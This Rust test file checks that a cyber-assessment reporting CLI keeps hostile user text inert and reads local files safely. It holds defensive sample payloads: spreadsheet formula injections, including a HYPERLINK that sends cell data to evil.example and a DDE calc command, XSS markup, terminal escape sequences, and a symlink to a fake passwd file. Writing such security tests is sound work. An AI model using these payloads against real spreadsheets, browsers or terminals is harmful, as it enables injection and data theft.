//! Output hygiene and local-file safety (issue #12, items 5 and 7): hostile text in an
//! assessment stays inert in every CSV, in Markdown and HTML, in the workbook and on the
//! terminal; `caf aggregate` reads only regular files inside the folders it is given; no
//! command writes its output over one of its inputs.

use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::support::{caf, csv_rows, path, read, run_ok, stderr_of, stdout_of};

const COUNTY: &str = "examples/county-council-caf-4.0-partial.toml";

/// What OWASP and ASVS 1.2.10 say starts a formula, plus line feed.
const TRIGGERS: [&str; 8] = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"];

/// A TOML basic string holding `text` exactly.
fn quoted(text: &str) -> String {
    toml::Value::String(text.to_string()).to_string()
}

/// The county example with user text replaced: the organisation's name, sector and region, a
/// comment, an evidence title and location, the suppliers and an override's justification.
struct Hostile<'a> {
    name: &'a str,
    sector: &'a str,
    region: &'a str,
    comment: &'a str,
    evidence_title: &'a str,
    evidence_location: &'a str,
    supplier: &'a str,
    justification: &'a str,
}

impl Hostile<'_> {
    fn write(&self, file: &Path) {
        let text = read(&path(COUNTY))
            .replace(
                "name = \"Northmoor County Council\"",
                &format!("name = {}", quoted(self.name)),
            )
            .replace(
                "sector = \"local-government\"",
                &format!("sector = {}", quoted(self.sector)),
            )
            .replace(
                "region = \"North West\"",
                &format!("region = {}", quoted(self.region)),
            )
            .replace(
                "comment = \"Threat assessment drafted with the regional WARP; not yet reviewed by the risk board.\"",
                &format!("comment = {}", quoted(self.comment)),
            )
            .replace(
                "evidence = [{ title = \"Vulnerability management dashboard, September 2026\", location = \"sharepoint://cyber/evidence/b4d-dashboard.png\" }]",
                &format!(
                    "evidence = [{{ title = {}, location = {} }}]",
                    quoted(self.evidence_title),
                    quoted(self.evidence_location)
                ),
            )
            .replace(
                "suppliers = [\"Capita plc\", \"Agilisys Ltd\", \"Microsoft Ltd\"]",
                &format!("suppliers = [{}, \"Agilisys Ltd\"]", quoted(self.supplier)),
            )
            .replace(
                "[outcomes.\"A1.a\"]\n",
                &format!(
                    "[outcomes.\"A1.a\"]\noverride = {{ status = \"not-achieved\", justification = {} }}\n",
                    quoted(self.justification)
                ),
            );
        std::fs::write(file, text).unwrap();
    }
}

/// Every field starting with `trigger`, each followed by a formula.
fn formulas(trigger: &str) -> [String; 8] {
    [
        format!("{trigger}HYPERLINK(\"http://evil.example/?\"&A1,\"Council\")"),
        format!("{trigger}sector"),
        format!("{trigger}region"),
        format!("{trigger}cmd|' /C calc'!A0 comment"),
        format!("{trigger}SUM(1+1)*cmd|' /C calc'!A0"),
        format!("{trigger}1+1 location"),
        format!("{trigger}2+3 supplier"),
        format!("{trigger}1+1 reviewed by the board"),
    ]
}

fn hostile_file(dir: &Path, name: &str, f: &[String; 8]) -> PathBuf {
    let file = dir.join(name);
    Hostile {
        name: &f[0],
        sector: &f[1],
        region: &f[2],
        comment: &f[3],
        evidence_title: &f[4],
        evidence_location: &f[5],
        supplier: &f[6],
        justification: &f[7],
    }
    .write(&file);
    file
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"))
}

/// No cell of the CSV starts a formula; returns the rows for further checks.
fn assert_inert_csv(text: &str) -> Vec<Vec<String>> {
    let rows = csv_rows(text);
    for row in &rows {
        for cell in row {
            assert!(
                !TRIGGERS.iter().any(|t| cell.starts_with(t)),
                "cell {cell:?} starts a formula"
            );
        }
    }
    rows
}

#[test]
fn report_csv_turns_every_formula_into_text() {
    let dir = tempfile::tempdir().unwrap();
    for (i, trigger) in TRIGGERS.iter().enumerate() {
        let f = formulas(trigger);
        let file = hostile_file(dir.path(), &format!("a{i}.toml"), &f);
        let out = run_ok(&["report", file.to_str().unwrap(), "--format", "csv"]);
        let rows = assert_inert_csv(&stdout_of(&out));
        let find = |id: &str| rows.iter().find(|r| r[3] == id).unwrap();
        let text = |id: &str, col: &str| find(id)[column(&rows, col)].clone();
        // Exactly what was written, behind one quote: nothing lost, nothing evaluated.
        assert_eq!(text("A1.a", "organisation"), format!("'{}", f[0]));
        assert_eq!(text("A2.b", "comment"), format!("'{}", f[3]));
        assert_eq!(text("B4.d", "evidence"), format!("'{} <{}>", f[4], f[5]));
        assert_eq!(
            text("A4.a", "suppliers"),
            format!("'{}; Agilisys Ltd", f[6])
        );
        assert_eq!(text("A1.a", "justification"), format!("'{}", f[7]));
    }
}

#[test]
fn aggregate_csv_neutralises_group_keys_but_not_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("returns");
    std::fs::create_dir(&folder).unwrap();
    for (i, trigger) in TRIGGERS.iter().enumerate() {
        let file = hostile_file(&folder, &format!("org{i}.toml"), &formulas(trigger));
        let text = read(&file).replace("id = \"E10000999\"", &format!("id = \"E1000000{i}\""));
        std::fs::write(&file, text).unwrap();
    }
    let out = run_ok(&[
        "aggregate",
        folder.to_str().unwrap(),
        "--min-group-size",
        "1",
        "--format",
        "csv",
    ]);
    let rows = assert_inert_csv(&stdout_of(&out));
    let group = column(&rows, "group");
    let groups: std::collections::BTreeSet<&str> =
        rows[1..].iter().map(|r| r[group].as_str()).collect();
    // Sectors are grouped by their key (trimmed of white space), each hostile one quoted.
    let expected = [
        "all",
        "sector",
        "'\0sector",
        "'+sector",
        "'-sector",
        "'=sector",
        "'@sector",
    ];
    assert_eq!(groups, expected.into_iter().collect(), "{groups:?}");
    // Counts are numbers, written as numbers.
    let achieved = column(&rows, "achieved");
    assert!(rows[1..].iter().all(|r| r[achieved].parse::<u32>().is_ok()));
}

#[test]
fn score_csv_neutralises_titles_from_a_users_framework() {
    let dir = tempfile::tempdir().unwrap();
    let frameworks = dir.path().join("frameworks");
    std::fs::create_dir(&frameworks).unwrap();
    let source = read(&path("frameworks/caf-4.0.toml"));
    let outcomes = source.find("[[outcomes]]").expect("outcomes");
    let first_title = outcomes + source[outcomes..].find("\ntitle = \"").expect("a title");
    let hostile = format!(
        "{}\ntitle = \"=HYPERLINK(\\\"http://evil.example\\\")\"\n{}",
        &source[..first_title],
        source[first_title + 1..].split_once('\n').unwrap().1
    )
    .replacen("id = \"caf-4.0\"", "id = \"hostile-4.0\"", 1);
    std::fs::write(frameworks.join("hostile.toml"), hostile).unwrap();
    let file = dir.path().join("a.toml");
    std::fs::write(
        &file,
        read(&path(COUNTY)).replace("framework = \"caf-4.0\"", "framework = \"hostile-4.0\""),
    )
    .unwrap();
    let out = caf()
        .args(["--frameworks", frameworks.to_str().unwrap()])
        .args(["score", file.to_str().unwrap(), "--format", "csv"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let text = stdout_of(&out);
    assert!(
        text.contains("'=HYPERLINK(\"\"http://evil.example\"\")"),
        "{text}"
    );
    assert_inert_csv(&text);
}

#[test]
fn the_workbook_stores_formula_text_as_strings() {
    use calamine::{Data, Reader, Xlsx};
    let dir = tempfile::tempdir().unwrap();
    let f = formulas("=");
    let file = hostile_file(dir.path(), "a.toml", &f);
    let out = dir.path().join("report.xlsx");
    run_ok(&[
        "report",
        file.to_str().unwrap(),
        "--format",
        "xlsx",
        "-o",
        out.to_str().unwrap(),
    ]);
    let mut book: Xlsx<_> = calamine::open_workbook(&out).unwrap();
    let mut seen = 0;
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet} holds a formula"
        );
        let range = book.worksheet_range(&sheet).unwrap();
        seen += range
            .used_cells()
            .filter(|(_, _, v)| matches!(v, Data::String(s) if s.contains(&f[3])))
            .count();
    }
    assert!(seen >= 1, "the comment is in the workbook as a string");
}

/// A comment and evidence that would be markup if passed through.
fn markup_file(dir: &Path) -> PathBuf {
    let file = dir.join("a.toml");
    Hostile {
        name: "Northmoor <b>County</b> & Council",
        sector: "local-government",
        region: "North West",
        comment: "<script>document.body.setAttribute('data-pwned','script')</script>\n# Heading\n| a | b |\n- item `code` *em*",
        evidence_title: "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">",
        evidence_location: "x` <img src=y onerror=alert(1)> `",
        supplier: "[click](javascript:alert(1))",
        justification: "| a | b |\n|---|---|\n| c | d |",
    }
    .write(&file);
    file
}

#[test]
fn markdown_shows_html_and_markdown_in_user_text_as_text() {
    use pulldown_cmark::{Options, Parser, html};
    let dir = tempfile::tempdir().unwrap();
    let file = markup_file(dir.path());
    let md = stdout_of(&run_ok(&[
        "report",
        file.to_str().unwrap(),
        "--format",
        "md",
    ]));
    assert!(!md.contains("<script"), "raw HTML passed through");
    assert!(md.contains("&lt;script&gt;"), "{md}");
    assert!(
        !md.lines().any(|l| l.starts_with("# Heading")),
        "a comment line became a heading"
    );

    // Rendered as a forge renders it (CommonMark with GitHub tables), the user's text is text.
    let mut rendered = String::new();
    html::push_html(
        &mut rendered,
        Parser::new_ext(&md, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH),
    );
    let doc = scraper::Html::parse_fragment(&rendered);
    let select = |s: &str| scraper::Selector::parse(s).unwrap();
    assert_eq!(doc.select(&select("script, img, [onerror]")).count(), 0);
    assert_eq!(doc.select(&select("a[href^=javascript]")).count(), 0);
    let headings: Vec<String> = doc
        .select(&select("h1, h2, h3, h4, h5, h6"))
        .map(|h| h.text().collect())
        .collect();
    assert!(
        !headings.iter().any(|h| h.contains("Heading")),
        "{headings:?}"
    );
    let text: String = doc.root_element().text().collect();
    for shown in [
        "<script>document.body.setAttribute('data-pwned','script')</script>",
        "# Heading",
        "| a | b |",
        "- item `code` *em*",
        "<img src=x onerror=\"document.body.setAttribute('data-pwned','img')\">",
        "x` <img src=y onerror=alert(1)> `",
        "[click](javascript:alert(1))",
        "Northmoor <b>County</b> & Council",
    ] {
        assert!(text.contains(shown), "{shown:?} is not shown as written");
    }
    // The cover table keeps its two columns however the name is spelt.
    let cover = doc.select(&select("table")).next().unwrap();
    assert!(
        cover
            .select(&select("tr"))
            .all(|r| r.select(&select("td, th")).count() == 2)
    );
}

#[test]
fn html_report_runs_no_script_from_user_text_in_a_browser() {
    let dir = tempfile::tempdir().unwrap();
    let file = markup_file(dir.path());
    let html = dir.path().join("report.html");
    run_ok(&[
        "report",
        file.to_str().unwrap(),
        "--format",
        "html",
        "-o",
        html.to_str().unwrap(),
    ]);
    let Some(browser) = crate::support::chromium() else {
        eprintln!("SKIPPED: no chromium to load the report in (apt-get install chromium)");
        return;
    };
    let dom = std::process::Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--dump-dom",
            &format!("file://{}", html.display()),
        ])
        .output()
        .unwrap();
    assert!(dom.status.success(), "{}", stderr_of(&dom));
    let dom = stdout_of(&dom);
    assert!(dom.contains("<body"), "{dom}");
    let doc = scraper::Html::parse_document(&dom);
    let select = |s: &str| scraper::Selector::parse(s).unwrap();
    assert_eq!(
        doc.select(&select("[data-pwned]")).count(),
        0,
        "a script from user text ran"
    );
    assert_eq!(doc.select(&select("script, img, [onerror]")).count(), 0);
    let text: String = doc.root_element().text().collect();
    assert!(text.contains("<script>document.body.setAttribute('data-pwned','script')</script>"));
}

/// The bytes that must never reach a terminal raw.
fn assert_no_raw_controls(bytes: &[u8], what: &str) {
    let text = String::from_utf8_lossy(bytes);
    let raw: Vec<char> = text
        .chars()
        .filter(|c| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    assert!(raw.is_empty(), "{what} holds raw {raw:?}:\n{text}");
}

/// The county example as `a.toml` in `dir`, its organisation named by the TOML string `name`.
fn county_named(dir: &Path, name: &str) -> PathBuf {
    let file = dir.join("a.toml");
    let text = read(&path(COUNTY)).replace(
        "name = \"Northmoor County Council\"",
        &format!("name = {name}"),
    );
    std::fs::write(&file, text).unwrap();
    file
}

#[test]
fn terminal_output_shows_escape_bytes_from_files_escaped() {
    let dir = tempfile::tempdir().unwrap();
    // Valid TOML carrying control characters through escapes: clear screen, set the window
    // title, bell, backspace, carriage return, a C1 CSI, and a right-to-left override.
    let file = county_named(
        dir.path(),
        "\"Northmoor\\u001b[2J\\u001b]0;pwned\\u0007\\b\\b\\rEvil\\u009b31m \\u202eliocnuoC\"",
    );
    for command in ["check", "score"] {
        let out = caf()
            .args([command, file.to_str().unwrap()])
            .output()
            .unwrap();
        assert_no_raw_controls(&out.stdout, command);
        let text = stdout_of(&out);
        assert!(
            text.contains(
                "Northmoor\\x1b[2J\\x1b]0;pwned\\x07\\x08\\x08\\x0dEvil\\u{9b}31m \\u{202e}liocnuoC"
            ),
            "{command}: {text}"
        );
    }

    // Invalid TOML with raw control bytes: the error quotes the line, escaped.
    let broken = dir.path().join("broken.toml");
    std::fs::write(
        &broken,
        b"framework = \"caf-4.0\"\nperiod = \"\x1b[2J\x1b]0;pwned\x07\xe2\x80\xae\"\n".as_slice(),
    )
    .unwrap();
    let out = caf()
        .args(["check", broken.to_str().unwrap()])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_no_raw_controls(&out.stderr, "the error");
    let error = stderr_of(&out);
    assert!(error.contains("broken.toml:2:"), "{error}");
    assert!(
        error.contains("\\x1b[2J\\x1b]0;pwned\\x07\\u{202e}"),
        "{error}"
    );
}

fn aggregate_json(args: &[&str]) -> (serde_json::Value, String, String) {
    let out = caf()
        .args(["aggregate", "--min-group-size", "1", "--format", "json"])
        .args(args)
        .timeout(Duration::from_secs(60))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr_of(&out));
    let stdout = stdout_of(&out);
    (
        serde_json::from_str(&stdout).unwrap(),
        stdout,
        stderr_of(&out),
    )
}

#[cfg(unix)]
#[test]
fn aggregate_skips_a_fifo_in_a_folder_instead_of_waiting_on_it() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(path(COUNTY), dir.path().join("county.toml")).unwrap();
    let fifo = dir.path().join("pipe.toml");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    // With no writer, opening the FIFO to read would block for ever; the timeout would fail it.
    let (report, _, stderr) = aggregate_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(report["coverage"]["organisations"], 1);
    assert_eq!(report["invalid"].as_array().unwrap().len(), 1, "{report}");
    assert!(stderr.contains("pipe.toml"), "{stderr}");
    assert!(stderr.contains("not a regular file (a FIFO)"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn aggregate_follows_no_link_out_of_its_folder_unless_asked() {
    let dir = tempfile::tempdir().unwrap();
    let outside = dir.path().join("elsewhere");
    let folder = dir.path().join("returns");
    std::fs::create_dir_all(folder.join("sub")).unwrap();
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(
        outside.join("passwd.toml"),
        "root:x:0:0:SECRET-LINE-ONE:/root:/bin/bash\nsvc:x:1:1:SECRET-LINE-TWO:/:/bin/false\n",
    )
    .unwrap();
    std::fs::copy(path(COUNTY), folder.join("sub/county.toml")).unwrap();
    std::os::unix::fs::symlink(outside.join("passwd.toml"), folder.join("passwd.toml")).unwrap();
    // A link that stays inside the folder is read like any file there.
    std::os::unix::fs::symlink(folder.join("sub/county.toml"), folder.join("alias.toml")).unwrap();

    let (report, stdout, stderr) = aggregate_json(&[folder.to_str().unwrap()]);
    assert!(
        !stdout.contains("SECRET") && !stderr.contains("SECRET"),
        "{stderr}"
    );
    assert_eq!(report["coverage"]["inputs"], 3, "{report}");
    assert_eq!(report["invalid"].as_array().unwrap().len(), 1, "{report}");
    assert!(
        stderr.contains("a symbolic link to a file outside"),
        "{stderr}"
    );

    // Asked to, it reads the target, which is then reported as the invalid file it is.
    let (_, _, stderr) = aggregate_json(&[folder.to_str().unwrap(), "--follow-symlinks"]);
    assert!(stderr.contains("passwd.toml"), "{stderr}");
    assert!(!stderr.contains("symbolic link"), "{stderr}");
}

#[test]
fn no_command_writes_its_output_over_an_input() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("county.toml");
    std::fs::copy(path(COUNTY), &file).unwrap();
    let original = std::fs::read(&file).unwrap();
    let f = file.to_str().unwrap();
    let dot = format!("{}/./county.toml", dir.path().display());
    let linked = dir.path().join("linked.toml");
    std::fs::hard_link(&file, &linked).unwrap();
    let l = linked.to_str().unwrap();
    let folder = dir.path().to_str().unwrap();
    let cases: Vec<Vec<&str>> = vec![
        vec!["report", f, "--format", "md", "-o", f],
        vec!["report", f, "--format", "json", "-o", &dot],
        vec!["report", f, "--format", "csv", "-o", l],
        vec!["report", f, "--format", "md", "--compare", l, "-o", l],
        vec!["aggregate", f, "--format", "json", "-o", f],
        vec!["aggregate", folder, "--format", "json", "-o", l],
        vec!["init", "--carry-forward", f, "-o", f, "--force"],
        vec!["frameworks", "import-webcaf", f, "-o", f],
    ];
    for args in cases {
        let out = caf().args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr_of(&out));
        assert!(
            stderr_of(&out).contains("would overwrite"),
            "{args:?}: {}",
            stderr_of(&out)
        );
        assert_eq!(std::fs::read(&file).unwrap(), original, "{args:?} wrote");
    }
    // Another file is fine.
    let other = dir.path().join("report.md");
    run_ok(&["report", f, "--format", "md", "-o", other.to_str().unwrap()]);
    assert!(read(&other).contains("Northmoor County Council"));
}

/// Everything `caf args` writes to a pseudo-terminal, with the terminal's own CR before each
/// line feed removed.
#[cfg(unix)]
fn on_a_terminal(args: &[&str]) -> Vec<u8> {
    use std::io::Read;
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_caf"));
    cmd.args(args)
        .env("NO_COLOR", "1")
        .env_remove("CAF_FRAMEWORKS");
    let mut session = expectrl::Session::spawn(cmd).expect("spawn caf on a pty");
    let mut out = Vec::new();
    let mut buf = [0u8; 8192];
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    loop {
        match session.try_read(&mut buf) {
            Ok(0) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                assert!(std::time::Instant::now() < deadline, "caf did not finish");
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(_) => break, // EIO once the child has gone
        }
    }
    let _ = session.read_to_end(&mut out);
    String::from_utf8_lossy(&out)
        .replace("\r\n", "\n")
        .into_bytes()
}

#[cfg(unix)]
#[test]
fn documents_shown_on_a_terminal_are_inert_and_files_keep_every_byte() {
    let dir = tempfile::tempdir().unwrap();
    let file = county_named(dir.path(), "\"Northmoor\\u001b]0;pwned\\u0007\\u202e\"");
    let f = file.to_str().unwrap();
    for format in ["md", "csv", "json", "html"] {
        let shown = on_a_terminal(&["report", f, "--format", format]);
        assert_no_raw_controls(&shown, format);
        let text = String::from_utf8_lossy(&shown);
        // Shown, not dropped (JSON writes ESC and BEL as its own `\u001b`, `\u0007`).
        assert!(
            text.contains("pwned") && text.contains("\\u{202e}"),
            "{format}: {text}"
        );
    }
    // Through a pipe (or into a file) the document is what was rendered.
    let piped = run_ok(&["report", f, "--format", "csv"]).stdout;
    assert!(String::from_utf8_lossy(&piped).contains("Northmoor\u{1b}]0;pwned\u{7}\u{202e}"));
}
